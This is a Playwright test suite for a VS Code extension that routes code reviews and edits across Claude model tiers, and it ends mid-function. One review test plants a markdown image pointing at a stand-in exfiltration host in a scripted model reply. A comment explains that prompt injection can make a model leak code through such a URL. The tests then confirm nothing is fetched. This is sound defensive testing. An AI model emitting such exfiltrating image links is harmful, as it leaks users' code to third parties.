/**
 * The workbench as a person uses it: one code-server with the packaged extension, the
 * local API stand-in in this process, headless Chromium driving palette, explorer,
 * editor, context menu, Problems view, status bar and webview. The tests run in order
 * and share the page (a key set in one is used by the next). Each saves a screenshot
 * under test-results/ and checks that the API key is not readable anywhere on the page.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { TIER_LABELS } from '../../src/core/tiers';
import { repoRoot } from '../support/codeServer';
import { defaultReply } from '../support/standin/responder';
import { faults } from '../support/standin/server';
import type { Standin } from '../support/standin/server';
import { openUiSession } from '../support/uiSession';
import type { UiSession } from '../support/uiSession';
import {
  activeEditor, clearNotifications, clickMenuItem, clickNotificationButton, costMeter, costMeterLabel, openEditorContextMenu, openExplorerContextMenu, openFromExplorer, openSubmenu,
  problems, quickInput, runCommand, screenshot, selectLines, setApiKeyFromPalette, visibleText, waitForCostChange, waitForCursorStatus, waitForFrameText, waitForQuickInputTitle, waitForNotification, webviewFrame,
} from '../support/workbench';

/** A fake key in the real key's shape; the stand-in accepts any non-empty key. */
const UI_KEY = 'sk-ant-ui-test-0123456789abcdefghijklmnop';
const runDir = join(repoRoot, '.run', 'ui');
const TIER_NAMES = Object.values(TIER_LABELS).join('|');

/** "$0.0123" or "$1.20" from a meter text or label, in dollars. */
function dollars(text: string): number {
  const match = /\$([\d,]+\.\d+)/.exec(text);
  assert.ok(match?.[1], `a dollar amount in "${text}"`);
  return Number(match[1].replace(/,/g, ''));
}

describe('Ladder in the workbench', () => {
  let session: UiSession | undefined;
  let standin: Standin;
  let page: Page;

  /** Saves the screenshot, then checks that nothing on the page shows the key. */
  async function shot(name: string): Promise<void> {
    await screenshot(page, name);
    const text = await visibleText(page);
    assert.match(text, /Ladder \$/, 'the page text is readable (the key check below sees what a person sees)');
    assert.ok(!text.includes(UI_KEY), `the API key is readable on the page at ${name}`);
  }

  function messageRequests() {
    return standin.log.filter((e) => e.path === '/v1/messages');
  }

  before(async () => {
    session = await openUiSession(runDir);
    ({ standin, page } = session);
  });

  after(async () => {
    await session?.close();
  });

  test('the cost meter is in the status bar, at $0.00 in a fresh session', { timeout: 40_000 }, async () => {
    const meter = costMeter(page);
    await meter.waitFor({ state: 'visible', timeout: 30_000 });
    assert.match(await meter.innerText(), /Ladder \$0\.00$/);
    assert.equal(await costMeterLabel(page), 'Ladder session cost $0.00');
    await shot('ui-1-status-bar-cost-meter');
  });

  test('a palette command runs and its notification is readable', { timeout: 40_000 }, async () => {
    // A fresh session has no key: Clear says so rather than claiming to remove one.
    await runCommand(page, 'Ladder: Clear API Key');
    const text = await waitForNotification(page, /no API key was set/);
    assert.match(text, /Ladder: no API key was set\./);
    await shot('ui-2-palette-command-notification');
  });

  test('Set API Key takes the key in a masked box and stores it', { timeout: 40_000 }, async () => {
    await clearNotifications(page);
    const { inputType, notification } = await setApiKeyFromPalette(page, UI_KEY, () => shot('ui-3-api-key-masked'));
    assert.equal(inputType, 'password', 'the key box masks what is typed');
    assert.match(notification, /secret storage/);
    assert.equal(standin.log.length, 0, 'storing the key sends nothing');
  });

  test('Choose Tier shows the chosen tier in the meter until it is used or undone', { timeout: 40_000 }, async () => {
    await clearNotifications(page);
    const pick = async (row: RegExp) => {
      await runCommand(page, 'Ladder: Choose Tier for Next Request');
      await waitForQuickInputTitle(page, 'Ladder: Choose Tier for Next Request');
      await page.locator('.quick-input-list .monaco-list-row', { hasText: row }).first().click();
    };
    await pick(/O · judgment/);
    await page.locator('.statusbar-item', { hasText: 'next: judgment' }).waitFor({ state: 'visible', timeout: 10_000 });
    assert.match(await costMeter(page).innerText(), /Ladder \$0\.00 · next: judgment$/, 'not only in a passing toast');
    assert.equal(await costMeterLabel(page), 'Ladder session cost $0.00; next request on the judgment tier');
    await shot('ui-3b-next-tier-in-meter');
    await pick(/Automatic/);
    await page.locator('.statusbar-item', { hasText: 'next: judgment' }).waitFor({ state: 'detached', timeout: 10_000 });
    assert.match(await costMeter(page).innerText(), /Ladder \$0\.00$/);
  });

  test('right-click a selection → Review with Escalation: Ladder diagnostics appear and the cost grows', { timeout: 60_000 }, async () => {
    await clearNotifications(page);
    await openFromExplorer(page, 'src', 'orders.ts');
    await selectLines(page, 9, 23);
    assert.match(await waitForCursorStatus(page, /\(\d+ selected\)/), /^Ln 23, Col \d+ \(\d+ selected\)$/);

    const menu = await openEditorContextMenu(page, 'innerHTML');
    assert.ok(menu.includes('Review with Escalation'), `the editor context menu lists Review with Escalation: ${menu.join(' | ')}`);
    // The rest sits in one Ladder submenu, so nothing of ours stands beside VS Code's own
    // entries under the same name (its Rename Symbol is in this menu too).
    assert.equal(menu.filter((t) => t === 'Rename Symbol').length, 1, `one Rename Symbol, VS Code's: ${menu.join(' | ')}`);
    const submenu = await openSubmenu(page, 'Ladder');
    assert.deepEqual(submenu, ['Ask', 'Explain Selection', 'Tidy Selection', 'Refactor Selection', 'Generate Docs', 'Write Tests', 'Security Review', 'Pin File to Context']);
    // Close the menu and open it afresh to run the review: a menu left open while the submenu
    // was read can close under a loaded machine before the click lands (seen once in CI).
    // One Escape per open menu level, never one more: in the editor it would drop the selection.
    const openMenu = page.locator('.context-view .monaco-menu');
    for (let i = 0; i < 2 && (await openMenu.count()) > 0; i++) {
      await page.keyboard.press('Escape');
      await page.waitForTimeout(200);
    }
    await openMenu.first().waitFor({ state: 'hidden', timeout: 5_000 });
    const before = (await costMeter(page).innerText()).trim();
    assert.match(before, /\$0\.00$/);
    assert.ok((await openEditorContextMenu(page, 'innerHTML')).includes('Review with Escalation'), 'the selection is still there');
    // A prompt injection in the code can make a model write an image whose URL carries the
    // code: the preview would fetch it as it opens. The first pass's SQL finding ends with one.
    const pixel = '![badge](https://exfil.example/pixel.png?code=total)';
    standin.script.when({ model: 'claude-haiku-4-5' }, (context) => JSON.parse(JSON.stringify(defaultReply(context)).replace('Use a parameterised query.', `Use a parameterised query. ${pixel}`)));
    await clickMenuItem(page, 'Review with Escalation');

    const after = await waitForCostChange(page, before);
    assert.ok(dollars(after) > 0, `the meter shows a non-zero cost: ${after}`);
    const rows = await problems(page, /Ladder/);
    const ladder = rows.filter((r) => /generated by Ladder/.test(r.label));
    assert.ok(ladder.length > 0, `Ladder diagnostics in the Problems view: ${rows.map((r) => r.label).join(' | ')}`);
    const at = (line: number) => ladder.find((r) => new RegExp(`at line ${line} and`).test(r.label));
    assert.ok(at(11), `a finding on the SQL built from strings (line 11): ${ladder.map((r) => r.label).join(' | ')}`);
    assert.ok(at(22), `a finding on the innerHTML write (line 22): ${ladder.map((r) => r.label).join(' | ')}`);
    assert.match(at(11)!.label, /found by claude-[\w.-]+/, 'a diagnostic says which model found it');
    assert.ok(await page.locator('.editor-group-container .monaco-editor .squiggly-error').count() > 0, 'squiggles in the editor');

    // The meter settles on the whole task's cost (both passes), equal to its accessible name.
    await page.waitForTimeout(300);
    const settled = (await costMeter(page).innerText()).trim();
    assert.equal(await costMeterLabel(page), `Ladder session cost ${settled.replace(/^.*Ladder /, '')}`);
    const models = new Set(messageRequests().map((e) => e.model));
    assert.ok(models.size >= 2, `the review escalated to a second model: ${[...models].join(', ')}`);
    // The report opens rendered beside the code (the Markdown preview can take seconds to start
    // in a fresh workbench), and its task cost is the figure on the meter: the only task so far.
    const report = await waitForFrameText(page, /Task cost: \$/);
    assert.match(report, /Review with Escalation: src\/orders\.ts:9-23/);
    assert.match(report, /Findings \(\d+\)/);
    assert.match(report, /critical · security · line 11\n+SQL is assembled from strings[^\n]*\n+found by claude-haiku-4-5, confirmed by claude-opus-4-8/);
    standin.script.clear();
    // The image reads as the text the model wrote: no image, no link, nothing fetched.
    assert.ok(report.includes(`Use a parameterised query. ${pixel}\n`), report);
    const pointing = 'Array.from(document.querySelectorAll("img, a")).filter((e) => ["src", "data-src", "href"].some((name) => e.getAttribute(name)?.includes("exfil"))).length';
    const exfil = await Promise.all(page.frames().map((frame) => frame.evaluate<number>(pointing).catch(() => 0)));
    assert.equal(exfil.reduce((a, b) => a + b, 0), 0, 'no image or link points at the URL');
    // The report shows the task to four decimals (as its calls), the meter the session to the cent.
    const cents = (usd: string | undefined) => Math.round(Number((usd ?? '').replace(/[$,]/g, '')) * 100);
    assert.equal(cents(/Task cost: (\$[\d.,]+)/.exec(report)?.[1]), cents(settled.replace(/^.*Ladder /, '')), 'the report\'s task cost is the meter\'s session cost');
    assert.match(report, /Task cost: \$0\.\d{4} over 2 calls \(claude-haiku-4-5 \$0\.\d{4}, claude-opus-4-8 \$0\.\d{4}\)/, 'the total and its calls to the same decimals');
    // The report, beside the code, has the keyboard focus: what the review was asked for, read first.
    await page.locator('.editor-group-container.active .tab.active', { hasText: 'Review · orders.ts 9-23' }).waitFor({ state: 'visible', timeout: 10_000 });
    await shot('ui-4-review-diagnostics-cost');
  });

  test("a finding's light bulb offers Fix with Ladder, which opens the fix as a diff on the tier the finding needs", { timeout: 60_000 }, async () => {
    await clearNotifications(page);
    await runCommand(page, 'View: Focus First Editor Group');
    await activeEditor(page).locator('.view-line', { hasText: 'el.innerHTML' }).first().click();
    await waitForCursorStatus(page, /^Ln 22, Col \d+$/);
    const fix = page.locator('.action-widget .monaco-list-row.action', { hasText: 'Fix with Ladder: HTML is written from a string' });
    // The light bulb's menu can open before the editor has the code actions of its line (a
    // loaded machine, the language server starting): ask again, and say what it showed.
    const seen: string[] = [];
    for (let attempt = 0; attempt < 4 && !(await fix.isVisible()); attempt++) {
      if (attempt > 0) {
        seen.push((await page.locator('.action-widget, .monaco-editor-overlaymessage').allInnerTexts()).join(' / ').replace(/\s+/g, ' ') || 'nothing');
        await page.keyboard.press('Escape');
        await activeEditor(page).locator('.view-line', { hasText: 'el.innerHTML' }).first().click();
      }
      await page.keyboard.press('Control+.');
      await fix.waitFor({ state: 'visible', timeout: 5_000 }).catch(() => undefined);
    }
    assert.ok(await fix.isVisible(), `the light bulb's menu offers Fix with Ladder; it showed: ${seen.join(' | ')}`);
    await shot('ui-4b-fix-with-ladder');
    const sent = messageRequests().length;
    await fix.click();
    const proposal = /Fix Review Finding — claude-opus-4-8 \(judgment\): apply this edit\?/;
    await waitForNotification(page, proposal);
    const request = messageRequests().slice(sent);
    assert.deepEqual(request.map((e) => e.model), ['claude-opus-4-8'], 'a security finding is fixed on the judgment tier');
    assert.match(JSON.stringify(request[0]?.body), /el\.innerHTML/);
    assert.ok(await page.locator('.tabs-container .tab.active', { hasText: 'Fix Review Finding' }).isVisible(), 'the fix opens as a diff');
    await clickNotificationButton(page, proposal, 'Reject');
    await page.locator('.tabs-container .tab', { hasText: 'Fix Review Finding' }).waitFor({ state: 'detached', timeout: 10_000 });
  });

  test('palette → Preview Route shows a tier, a model and reasons, and sends nothing', { timeout: 40_000 }, async () => {
    await clearNotifications(page);
    const sent = messageRequests().length;
    await runCommand(page, 'Ladder: Preview Route');
    await waitForQuickInputTitle(page, 'Ladder: Preview Route');
    assert.equal(await quickInput(page).inputValue(), 'Add input validation to this function');
    await page.keyboard.press('Enter');
    const text = await waitForNotification(page, /Ladder would route this to/);
    assert.match(text, new RegExp(`Ladder would route this to (${TIER_NAMES}) — claude-[\\w.-]+, about \\$`));
    assert.match(text, /Why: \S.+/);
    assert.equal(messageRequests().length, sent, 'a preview sends no message');
    await shot('ui-5-preview-route');
  });

  test('Reject a proposed edit → Ladder offers the next tier, and its button runs the request there', { timeout: 60_000 }, async () => {
    await clearNotifications(page);
    // The review report's preview, in the second editor group, has the keyboard focus (the
    // report is what the review was asked for): back to the first group, where orders.ts is.
    await runCommand(page, 'View: Focus First Editor Group');
    await page.locator('.editor-group-container.active .tab.active', { hasText: 'orders.ts' }).waitFor({ state: 'visible', timeout: 10_000 });
    await selectLines(page, 15, 19);
    const sent = messageRequests().length;
    await runCommand(page, 'Ladder: Tidy Selection');
    const first = /Tidy Selection — claude-haiku-4-5 \(labour\): apply this edit\?/;
    await waitForNotification(page, first);
    await clickNotificationButton(page, first, 'Reject');
    const offer = await waitForNotification(page, /you rejected/);
    assert.match(offer, /Ladder: you rejected claude-haiku-4-5's edit\. Try the same request on the execute tier \(claude-sonnet-4-6\)\?/);
    await shot('ui-5b-reject-offers-next-tier');
    await clickNotificationButton(page, /you rejected claude-haiku/, 'Try claude-sonnet-4-6');
    const second = /Tidy Selection — claude-sonnet-4-6 \(execute\): apply this edit\?/;
    await waitForNotification(page, second);
    assert.deepEqual(messageRequests().slice(sent).map((e) => e.model), ['claude-haiku-4-5', 'claude-sonnet-4-6']);
    await clickNotificationButton(page, second, 'Reject');
  });

  test('clicking the cost meter opens the Ladder Cost Report webview', { timeout: 40_000 }, async () => {
    await clearNotifications(page);
    await costMeter(page).click();
    await page.locator('.tabs-container .tab.active', { hasText: 'Ladder Cost Report' }).waitFor({ state: 'visible', timeout: 15_000 });
    const frame = await webviewFrame(page, 'Ladder Cost Report');
    await frame.locator('table, .empty').first().waitFor({ state: 'visible', timeout: 10_000 });
    await shot('ui-6-cost-report');
  });

  test("the cost report's totals agree with the status bar", { timeout: 30_000 }, async () => {
    const frame = await webviewFrame(page, 'Ladder Cost Report');
    const totals = await frame.locator('.totals').innerText();
    assert.doesNotMatch(totals, /NaN|undefined/, `the totals render numbers: ${totals.replace(/\n/g, ' | ')}`);
    const meter = (await costMeter(page).innerText()).trim().replace(/^.*Ladder /, '');
    assert.ok(totals.includes(meter), `the totals show the meter's ${meter}: ${totals.replace(/\n/g, ' | ')}`);
    const tasks = await frame.locator('.tasks table tbody tr').allInnerTexts();
    assert.ok(tasks.some((row) => /review/.test(row)), `the review is a task row: ${tasks.join(' | ')}`);
    // Each section says what it covers: the totals the meter's scope, the chart its days, the tables everything.
    // One h1 names the page (hidden: the tab says it), so a screen reader's heading list does not start at a section.
    const headings = (await frame.locator('h1, h2').allInnerTexts()).map((h) => h.replace(/\s+/g, ' ').trim());
    assert.deepEqual(headings, ['Ladder cost report', 'This session', 'Cost per day by tier · last 30 days', 'Routes · all recorded', 'Tasks · all recorded']);
    assert.match(await frame.locator('.tasks-note').innerText(), /^All \d+ tasks recorded\.$/);
    assert.match(await frame.locator('.chart .note').innerText(), /^\$[\d.]+ in the last 30 days · \$[\d.]+ in everything recorded\.$/);
    // The report is redrawn on every call: only a one-line status is live, not the whole report read out again.
    assert.equal(await frame.locator('[aria-live]:not([role="status"])').count(), 0);
    assert.equal(await frame.locator('[role="status"]').count(), 1);
    // The chart's value axis: round, evenly spaced amounts from $0 up past today's bar (the whole session).
    const ticks = (await frame.locator('svg.bars text.axis[text-anchor="end"]').allTextContents()).map((t) => dollars(t));
    assert.ok(ticks.length >= 2 && ticks[0] === 0, `ticks from $0: ${ticks.join(', ')}`);
    const step = ticks[1]! - ticks[0]!;
    assert.ok(ticks.every((t, i) => Math.abs(t - i * step) < 1e-9), `evenly spaced: ${ticks.join(', ')}`);
    assert.ok(ticks.at(-1)! >= dollars(meter) - 0.005, `the top tick covers today's $${dollars(meter)}: ${ticks.join(', ')}`);
  });

  test("the chart's figures are a table the keyboard reaches: each day and tier, with totals", { timeout: 30_000 }, async () => {
    const frame = await webviewFrame(page, 'Ladder Cost Report');
    const show = frame.getByRole('button', { name: 'Show as table' });
    await show.focus();
    await page.keyboard.press('Enter');
    const table = frame.getByRole('table', { name: 'Cost per day by tier' });
    await table.waitFor({ state: 'visible', timeout: 5_000 });
    const hide = frame.getByRole('button', { name: 'Hide the table' });
    assert.equal(await hide.getAttribute('aria-expanded'), 'true');
    const headers = await table.getByRole('columnheader').allInnerTexts();
    assert.deepEqual(headers, ['Day', 'H · labour', 'S · execute', 'O · judgment', 'Total'], 'a column per tier that cost something: Haiku and Sonnet for Tidy, Opus for the review');
    const total = await table.getByRole('row').filter({ has: frame.getByRole('rowheader', { name: 'Total' }) }).getByRole('cell').allInnerTexts();
    const spent = dollars(await frame.locator('.chart .note').innerText());
    assert.ok(Math.abs(dollars(total.at(-1) ?? '') - spent) < 0.005, `the table's total is the chart's ${spent}: ${total.join(' | ')}`);
    await shot('ui-6b-chart-as-table');
    await page.keyboard.press('Enter');
    await table.waitFor({ state: 'detached', timeout: 5_000 });
    assert.equal(await show.getAttribute('aria-expanded'), 'false');
  });

  test('the Routes table counts both rejected Tidy edits, each on the tier that wrote it', { timeout: 30_000 }, async () => {
    const frame = await webviewFrame(page, 'Ladder Cost Report');
    // Cell by cell: in a narrow editor group the rows stack, and a row's text has no tabs.
    const rows = await frame.evaluate<string[][]>(`Array.from(document.querySelectorAll('.routes table tbody tr'), (tr) => Array.from(tr.cells, (cell) => cell.innerText.trim()))`);
    const format = (tier: string) => rows.find((cells) => cells[0] === 'format' && cells[1]?.startsWith(tier));
    // Columns: Step, Tier, Calls, Cost, Kept, Went up.
    for (const tier of ['H', 'S']) {
      const row = format(tier);
      assert.ok(row, `a format route on ${tier}: ${rows.map((r) => r.join(' ')).join(' | ')}`);
      assert.equal(row[4], '0 of 1', `one edit on ${tier}, rejected: ${row.join(' ')}`);
    }
    assert.ok(rows.some((cells) => cells[0] === 'review'), `the review has a route: ${rows.map((r) => r.join(' ')).join(' | ')}`);
    const decimals = new Set(rows.map((cells) => /\.(\d+)$/.exec(cells[3] ?? '')?.[1]?.length));
    assert.deepEqual([...decimals], [4], `every cost in the column to four decimals, since some are below ten cents: ${rows.map((r) => r[3]).join(' ')}`);
    await frame.locator('.routes tbody tr').last().scrollIntoViewIfNeeded();
    await shot('ui-7-cost-report-routes');
  });

  test("a task's When opens its calls beneath it: each billed call's usage and cost, adding up to the row", { timeout: 30_000 }, async () => {
    const frame = await webviewFrame(page, 'Ladder Cost Report');
    const review = frame.locator('.tasks > .scroller > table > tbody > tr', { hasText: 'review' }).first();
    const cells = (await review.locator(':scope > td').allInnerTexts()).map((t) => t.trim());
    // Columns: When, Command, Route, Calls, Cost, Up / fell back, Outcome, Verdict.
    await review.locator('button.disclose').click();
    const details = frame.locator('tr.task-calls table');
    await details.locator('tbody tr').first().waitFor({ state: 'visible', timeout: 10_000 });
    assert.equal(await review.locator('button.disclose').getAttribute('aria-expanded'), 'true');
    const calls = await details.locator('tbody tr:not(.row-after)').allInnerTexts();
    assert.equal(String(calls.length), cells[3], `one line per call of the task: ${calls.join(' | ')}`);
    // When each call ran and why it went to its tier are on the page, not in a tooltip only a mouse opens.
    const why = await details.locator('tbody tr.row-after').allInnerTexts();
    assert.equal(why.length, calls.length, `a line beneath each call: ${why.join(' | ')}`);
    assert.match(why[0] ?? '', /^\w{3} \d+, .+ · \S.* · went a tier up: a failed check redone/, 'the first pass: its time, its reason, what going up means');
    assert.equal(await details.locator('tr[title]').count(), 0);
    assert.match(await frame.locator('tr.task-calls > td > p.note').innerText(), /^Task \S+ · claude-haiku-4-5, claude-opus-4-8$/, "the task's id and models");
    assert.match(calls[0] ?? '', /claude-haiku-4-5 \(H\) · review[\s\S]*went a tier up/, 'the first pass, which went to judgment');
    assert.match(calls.at(-1) ?? '', /review judgment/, 'the step in words, not "reviewJudge"');
    assert.match(calls.at(-1) ?? '', /claude-opus-4-8 \(O\)/);
    const total = (await details.locator('tfoot td').innerText()).trim();
    assert.equal(total, cells[4], 'the calls add up to the task\'s cost');
    await details.evaluate((table) => table.scrollIntoView({ block: 'nearest', inline: 'nearest' }));
    await shot('ui-7b-task-calls');
    // The keyboard stays on the button: Enter closes the calls again.
    assert.equal(await frame.evaluate<string>('document.activeElement ? document.activeElement.className : ""'), 'disclose');
    await page.keyboard.press('Enter');
    await details.waitFor({ state: 'detached', timeout: 5_000 });
    assert.equal(await review.locator('button.disclose').getAttribute('aria-expanded'), 'false');
  });

  test('the report keeps its sort, its opened task and its place when its tab is hidden and shown again', { timeout: 40_000 }, async () => {
    let frame = await webviewFrame(page, 'Ladder Cost Report');
    await frame.locator('button.sort', { hasText: 'Cost' }).click();
    await frame.locator('th[aria-sort="descending"]', { hasText: 'Cost' }).waitFor({ state: 'visible', timeout: 5_000 });
    // The sorted column shows its direction; a screen reader has it from aria-sort, not twice from the arrow.
    const arrow = await frame.evaluate<string>(`getComputedStyle(document.querySelector('th[aria-sort] button.sort'), '::after').content`);
    assert.match(arrow, /^" ▼" \/ ""$/);
    assert.equal(await frame.locator('.tasks').getByRole('button', { name: 'Cost', exact: true }).count(), 1, 'the button is named Cost, without the arrow');
    await frame.locator('.tasks button.disclose').first().click();
    await frame.locator('tr.task-calls table tbody tr').first().waitFor({ state: 'visible', timeout: 10_000 });
    await frame.evaluate('window.scrollTo(0, document.body.scrollHeight)');
    const scrolled = await frame.evaluate<number>('window.scrollY');
    assert.ok(scrolled > 0, 'the report is long enough to scroll');
    await page.waitForTimeout(400);
    // Another editor in the report's group hides it: its webview is let go, and built again when shown.
    const reportTab = page.locator('.tabs-container .tab', { hasText: 'Ladder Cost Report' }).first();
    await reportTab.click();
    await openFromExplorer(page, 'src', 'db.ts');
    for (let i = 0; i < 50 && !frame.isDetached(); i++) await page.waitForTimeout(100);
    assert.ok(frame.isDetached(), 'hidden, the report\'s webview is let go, not kept in memory');
    await reportTab.click();
    frame = await webviewFrame(page, 'Ladder Cost Report');
    await frame.locator('tr.task-calls table tbody tr').first().waitFor({ state: 'visible', timeout: 10_000 });
    assert.equal(await frame.locator('th[aria-sort]').innerText(), 'Cost', 'still sorted by cost');
    assert.equal(await frame.locator('button.disclose[aria-expanded="true"]').count(), 1, 'the opened task is open again');
    assert.ok(Math.abs((await frame.evaluate<number>('window.scrollY')) - scrolled) < 40, 'and the page is where it was');
    await shot('ui-7c-report-after-tab-switch');
    await frame.locator('button.disclose[aria-expanded="true"]').click();
    await frame.locator('button.sort', { hasText: 'When' }).click();
  });

  test('in a narrow editor group the report stacks: every cost on screen, chart text at its size', { timeout: 40_000 }, async () => {
    await page.setViewportSize({ width: 640, height: 900 });
    try {
      const frame = await webviewFrame(page, 'Ladder Cost Report');
      await page.waitForTimeout(800);
      const fit = await frame.evaluate<{ width: number; scrollWidth: number; costsOff: number; smallestText: number }>(`(() => {
        const width = document.documentElement.clientWidth;
        const costs = Array.from(document.querySelectorAll('.tasks td.amount, .routes td.amount'));
        const texts = Array.from(document.querySelectorAll('svg.bars text')).map((t) => t.getBoundingClientRect().height);
        return { width, scrollWidth: document.documentElement.scrollWidth, costsOff: costs.filter((c) => c.getBoundingClientRect().right > width + 1).length, smallestText: Math.min(...texts) };
      })()`);
      assert.ok(fit.width < 400, `the report is narrow here: ${fit.width}px`);
      assert.equal(fit.scrollWidth, fit.width, 'nothing scrolls sideways');
      assert.equal(fit.costsOff, 0, 'every cost is on screen');
      assert.ok(fit.smallestText >= 10, `the chart's labels are drawn at their size, not scaled down: ${fit.smallestText}px`);
      // A task's calls stack, each cell labelled to the eye; a screen reader still has their column headers.
      await frame.locator('.tasks button.disclose').first().click();
      const calls = frame.locator('tr.task-calls table');
      await calls.locator('tbody tr').first().waitFor({ state: 'visible', timeout: 10_000 });
      const header = calls.getByRole('columnheader', { name: 'Uncached in' });
      assert.equal(await header.count(), 1, 'the calls keep their header in the accessibility tree');
      assert.ok(((await calls.locator('thead').boundingBox())?.height ?? 0) <= 1, 'but it is not shown');
      await frame.locator('.tasks').scrollIntoViewIfNeeded();
      await shot('ui-7d-report-narrow');
      await frame.locator('.tasks button.disclose[aria-expanded="true"]').click();
    } finally {
      await page.setViewportSize({ width: 1400, height: 900 });
    }
  });

  test('right-click a folder → Review with Escalation: findings land in its files and the report names the folder', { timeout: 60_000 }, async () => {
    await clearNotifications(page);
    const menu = await openExplorerContextMenu(page, 'src');
    for (const title of ['Review with Escalation', 'Security Review', 'Architecture Review']) assert.ok(menu.includes(title), `the folder's menu lists ${title}: ${menu.join(' | ')}`);
    assert.ok(!menu.includes('Review File'), 'and not the file-only entries');
    const before = (await costMeter(page).innerText()).trim();
    const sent = messageRequests().length;
    await clickMenuItem(page, 'Review with Escalation');
    await waitForCostChange(page, before);
    const report = await waitForFrameText(page, /Review with Escalation: src \(2 files\)[\s\S]*Task cost: \$/);
    assert.match(report, /Findings \(2\)\n/, 'the SQL and innerHTML findings, each once');
    assert.match(report, /critical · security · src\/orders\.ts:11\n/);
    assert.deepEqual(messageRequests().slice(sent).map((e) => e.model), ['claude-haiku-4-5', 'claude-opus-4-8']);
    await shot('ui-8-folder-review');
  });

  test('a stream that breaks on every model: the result view still shows what came and the failed task\'s cost', { timeout: 60_000 }, async () => {
    await clearNotifications(page);
    await runCommand(page, 'View: Focus First Editor Group');
    await openFromExplorer(page, 'src', 'orders.ts');
    await selectLines(page, 15, 19);
    const sent = messageRequests().length;
    // A quick failure ends before VS Code has finished opening the result view.
    standin.script.fault(faults.midStreamError(2), { times: 2 });
    await runCommand(page, 'Ladder: Explain Selection');
    const failure = await waitForNotification(page, /claude-sonnet-4-6 is overloaded/);
    assert.doesNotMatch(failure, /overloaded.*overloaded/, `the model's trouble is said once: ${failure}`);
    assert.deepEqual(messageRequests().slice(sent).map((e) => e.model), ['claude-haiku-4-5', 'claude-sonnet-4-6'], 'Haiku, then the fallback');
    const view = page.locator('.editor-group-container .monaco-editor .view-lines', { hasText: '**Failed:**' });
    await view.waitFor({ state: 'visible', timeout: 15_000 });
    // The editor draws spaces as no-break spaces. The view says why, as the toast did.
    assert.match((await view.innerText()).replace(/\u00a0/g, ' '), /fell back to[\s\S]*claude-sonnet-4-6[\s\S]*\*\*Failed:\*\* claude-sonnet-4-6 is overloaded[\s\S]*_Task cost \$[\d.]+ over 2 calls\._/);
    await shot('ui-9-stream-broke');
  });

  test('right-click a file → Pin File to Context; the same menu then offers Unpin, and a .env is refused', { timeout: 40_000 }, async () => {
    await clearNotifications(page);
    const sent = standin.log.length;
    let menu = await openExplorerContextMenu(page, 'db.ts');
    assert.ok(menu.includes('Pin File to Context') && !menu.includes('Unpin File from Context'), menu.join(' | '));
    await clickMenuItem(page, 'Pin File to Context');
    await waitForNotification(page, /src\/db\.ts is pinned to every request's cached context/);
    menu = await openExplorerContextMenu(page, 'db.ts');
    assert.ok(menu.includes('Unpin File from Context') && !menu.includes('Pin File to Context'), `once pinned, the menu offers Unpin: ${menu.join(' | ')}`);
    await clickMenuItem(page, 'Unpin File from Context');
    await waitForNotification(page, /src\/db\.ts is no longer pinned/);
    assert.ok((await openExplorerContextMenu(page, 'db.ts')).includes('Pin File to Context'), 'and Pin again after Unpin');
    await page.keyboard.press('Escape');
    await openExplorerContextMenu(page, '.env');
    await clickMenuItem(page, 'Pin File to Context');
    const refused = await waitForNotification(page, /\.env is not pinned/);
    assert.match(refused, /its name marks it as a credentials file, so it is never sent/);
    await shot('ui-10-pin-refused');
    assert.equal(standin.log.length, sent, 'pinning sends nothing');
  });

  test('after the window reloads, the open cost report and review report come back, and the review can be followed up', { timeout: 120_000 }, async () => {
    await clearNotifications(page);
    await costMeter(page).click();
    const tab = page.locator('.tabs-container .tab', { hasText: 'Ladder Cost Report' });
    await tab.waitFor({ state: 'visible', timeout: 15_000 });
    await page.reload();
    await page.locator('.monaco-workbench').waitFor({ state: 'visible', timeout: 60_000 });
    await tab.waitFor({ state: 'visible', timeout: 30_000 });
    await tab.click();
    const frame = await webviewFrame(page, 'Ladder Cost Report');
    const tasks = frame.locator('.tasks table tbody tr', { hasText: 'review' });
    await tasks.first().waitFor({ state: 'visible', timeout: 30_000 });
    assert.ok((await tasks.count()) >= 2, 'the selection and folder reviews, read from the ledger by the new window');
    assert.doesNotMatch(await frame.locator('body').innerText(), /Loading the ledger/);
    await shot('ui-11-report-after-reload');

    // The selection review's report, rendered again from what the workspace kept.
    const reviewTab = page.locator('.tabs-container .tab', { hasText: 'Review · orders.ts 9-23' });
    await reviewTab.waitFor({ state: 'visible', timeout: 30_000 });
    await reviewTab.click();
    assert.match(await waitForFrameText(page, /Review with Escalation: src\/orders\.ts:9-23[\s\S]*Task cost: \$/), /Findings \(\d+\)/);
    // A follow-up from the palette continues the report in front (no list to pick from), with
    // the review's question and answer before the new one.
    const sent = messageRequests().length;
    await runCommand(page, 'Ladder: Ask a Follow-up');
    await waitForQuickInputTitle(page, 'Ladder: Ask a Follow-up');
    assert.match(await page.locator('.quick-input-widget .quick-input-message').innerText(), /Continues "Review with Escalation of src\/orders\.ts:9-23/);
    await page.keyboard.type('which finding should I fix first?');
    await page.keyboard.press('Enter');
    // Its answer's call, not a difficulty check that may go before it.
    const answer = () => messageRequests().slice(sent).find((e) => !JSON.stringify((e.body as { system?: unknown }).system ?? '').includes('Ladder task: difficulty'));
    for (let i = 0; i < 150 && !answer(); i++) await page.waitForTimeout(200);
    const body = answer()?.body as { messages?: { role: string }[] } | undefined;
    assert.deepEqual(body?.messages?.map((m) => m.role), ['user', 'assistant', 'user'], 'the review, its answer, then the follow-up');
    await shot('ui-11b-follow-up-after-reload');
  });

  test('a window reload while an answer streams and an edit waits for its verdict: the answer comes back cut off, the edit is named as lost', { timeout: 150_000 }, async () => {
    await clearNotifications(page);
    await runCommand(page, 'View: Close All Editor Groups');
    try {
      await cutOffByReload();
    } finally {
      // The next test finds orders.ts in one group only.
      await runCommand(page, 'View: Close All Editor Groups');
    }
  });

  /** Explain Selection and Tidy Selection, the window reloaded while the answer streams and the diff is open, then a follow-up on what comes back. */
  async function cutOffByReload(): Promise<void> {
    await openFromExplorer(page, 'src', 'orders.ts');
    await selectLines(page, 15, 19);
    // Three words of the answer, then the stream holds, as a long answer still coming would.
    standin.script.when({ system: 'Ladder task: explain' }, { text: 'Partly streamed: the total adds each price, then tax, then the rest.', deltas: 12, fault: faults.hang(3) }, { times: 1 });
    const sent = messageRequests().length;
    await runCommand(page, 'Ladder: Explain Selection');
    const tab = page.locator('.tabs-container .tab', { hasText: 'Explain · orders.ts 15-19' });
    await tab.waitFor({ state: 'visible', timeout: 30_000 });
